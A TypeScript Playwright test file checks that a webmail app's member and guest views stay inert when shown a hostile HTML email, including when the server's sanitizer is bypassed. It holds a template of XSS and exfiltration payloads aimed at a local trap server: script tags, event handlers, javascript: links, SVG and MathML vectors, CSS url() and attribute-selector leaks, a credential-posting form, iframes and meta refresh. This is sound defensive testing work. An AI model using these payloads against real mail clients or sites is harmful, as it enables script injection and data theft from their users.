import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, test } from "node:test";
import type { Page } from "playwright-core";
import { startTestServer, type TestServer } from "../../support/server.ts";
import { desk, openVisitor, pagesOnly, phone, type Visitor } from "./browser.ts";
import { enterNewFirm, sendByApi } from "./firm.ts";
import { linkFor } from "./outbox.ts";

const guestEmail = "lezer@voorbeeld.example";

let server: TestServer;
let trap: Server;
let trapUrl: string;
const trapped: string[] = [];
let member: Visitor;
let guest: Visitor;
let conversationId: string;

const attacks = (trapAt: string): string => `
<p>Beste lezer, dit is de gewone tekst.</p>
<script>parent.caught = top.caught = 1; fetch("${trapAt}/script")</script>
<script src="${trapAt}/script.js"></script>
<img src="x" onerror="parent.caught = 1"><img src="${trapAt}/image.png"><img srcset="${trapAt}/srcset.png 2x">
<body onload="parent.caught = 1"><details open ontoggle="parent.caught = 1">a</details>
<style>@import "${trapAt}/import.css"; body { background: url(${trapAt}/background) }
 @font-face { font-family: f; src: url(${trapAt}/font) } p { font-family: f }
 input[value^="a"] { background: url(${trapAt}/exfiltration) }</style>
<link rel="stylesheet" href="${trapAt}/link.css"><link rel="prefetch" href="${trapAt}/prefetch">
<div style="background: url(${trapAt}/style); position: fixed; inset: 0">b</div>
<div data-style="background: url(${trapAt}/data-style)">c</div>
<svg onload="parent.caught = 1"><script>parent.caught = 1</script><image href="${trapAt}/svg.png" /><use href="${trapAt}/use#a" />
<a href="javascript:parent.caught=1"><text y="20">svg</text></a></svg>
<math><maction actiontype="statusline" xlink:href="javascript:parent.caught=1">d</maction></math>
<a id="link" href="javascript:parent.caught=1">klik hier</a> <a href="data:text/html,<script>1</script>">e</a>
<form action="${trapAt}/form" method="post"><input name="pin" value="abc"><button id="send">Inloggen</button></form>
<iframe src="${trapAt}/frame"></iframe><iframe srcdoc="<script>top.caught=1</script>"></iframe>
<object data="${trapAt}/object"></object><embed src="${trapAt}/embed"><video src="${trapAt}/video" poster="${trapAt}/poster"></video>
<meta http-equiv="refresh" content="0;url=${trapAt}/refresh"><base href="${trapAt}/">
<img src="relative.png"><table background="${trapAt}/table"><tr><td>f</td></tr></table>`;

before(async () => {
  trap = createServer((request, response) => {
    trapped.push(request.url ?? "");
    response.end();
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => trap.once("listening", resolve));
  trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  await fetch(`${trapUrl}/control`);
  assert.deepEqual(trapped.splice(0), ["/control"], "the trap catches nothing");
  server = await startTestServer({ environment: pagesOnly });
  [member, guest] = await Promise.all([openVisitor(server.url, desk), openVisitor(server.url, phone)]);
  await enterNewFirm(member.context, server.url);
  const message = { recipients: [{ email: guestEmail }], subject: "Attack", html: attacks(trapUrl) };
  ({ conversationId } = await sendByApi(member.context, server.url, message));
});
after(async () => {
  await Promise.all([member, guest].map((visitor) => visitor?.remove()));
  await server?.stop();
  trap?.close();
});

/** Clicks whatever invites to it; then nothing may have run, left, or moved. */
async function assertHarmless(page: Page): Promise<void> {
  const letter = page.frameLocator(".letter-frame").first();
  await letter.getByText("dit is de gewone tekst").waitFor();
  const address = page.url();
  for (const selector of ["#link", "#send", "svg a", "summary"]) {
    const target = letter.locator(selector);
    if ((await target.count()) > 0) await target.first().click({ force: true, noWaitAfter: true });
  }
  await page.evaluate("fetch('/api/setup').then((answer) => answer.text())");
  assert.equal(await page.evaluate("window.caught"), undefined, "something in the letter ran");
  assert.deepEqual(trapped, [], "something in the letter asked another host");
  assert.equal(page.url(), address);
  assert.equal(page.context().pages().length, 1);
}

/** Puts the attack into the answer as it was written: the page's own wall, were the server's ever to fall. */
async function withoutServersWall(page: Page, path: string): Promise<void> {
  await page.route(path, async (route) => {
    const answer = await route.fetch();
    const body = (await answer.json()) as { messages: { html: string }[] };
    const messages = body.messages.map((message) => ({ ...message, html: attacks(trapUrl) }));
    await route.fulfill({ response: answer, json: { ...body, messages } });
  });
}

test("Hostile mail does nothing in a member's conversation", async () => {
  await member.page.goto(`${server.url}/mail/sent/${conversationId}`);
  await assertHarmless(member.page);
  member.assertClean();
});

test("Hostile mail does nothing on a guest's page", async () => {
  await guest.page.goto(await linkFor(server.url, guestEmail));
  await guest.page.getByRole("button", { name: "Bericht openen" }).click();
  await assertHarmless(guest.page);
  guest.assertClean();
});

test("Hostile mail does nothing in a member's conversation even if the server had let it through", async () => {
  await withoutServersWall(member.page, "**/api/mail/conversations/*");
  await member.page.reload();
  await assertHarmless(member.page);
});

test("Hostile mail does nothing on a guest's page even if the server had let it through", async () => {
  await guest.page.getByRole("button", { name: "Sluiten" }).click();
  await guest.page.getByRole("heading", { name: "U hebt het bericht gesloten" }).waitFor();
  await withoutServersWall(guest.page, "**/api/guest/*/conversation");
  await guest.page.goto(await linkFor(server.url, guestEmail));
  await guest.page.getByRole("button", { name: "Bericht openen" }).click();
  await assertHarmless(guest.page);
});
